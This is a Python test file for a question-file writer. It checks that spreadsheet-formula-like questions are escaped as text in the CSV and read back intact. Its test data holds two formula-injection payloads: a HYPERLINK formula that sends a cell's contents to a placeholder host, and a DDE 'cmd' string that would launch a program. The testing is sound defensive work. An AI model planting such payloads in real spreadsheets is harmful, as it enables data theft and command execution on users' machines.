"""The question file `cube questions` writes (`cube.run.question_file`): a question a spreadsheet
would read as a formula is written as text, and the import reads it back as it was."""

from __future__ import annotations

import pandas as pd

from cube.run.question_file import write_question_file
from cube.systems.imported import read_table


def test_a_question_starting_like_a_formula_is_text_in_the_csv_and_reads_back_as_written(tmp_path):
    questions = pd.DataFrame(
        {
            "question_id": ["q1", "q2", "q3"],
            "question": ['=HYPERLINK("http://x?q="&B2,"Click")', "+cmd|' /C calc'!A0", "普通问题"],
        }
    )
    path = tmp_path / "questions.csv"
    assert write_question_file(questions, "zh", path) == 3
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not any(q.startswith(("=", "+", "-", "@")) for q in raw["question"])
    assert read_table(path)["question"].tolist() == questions["question"].tolist()
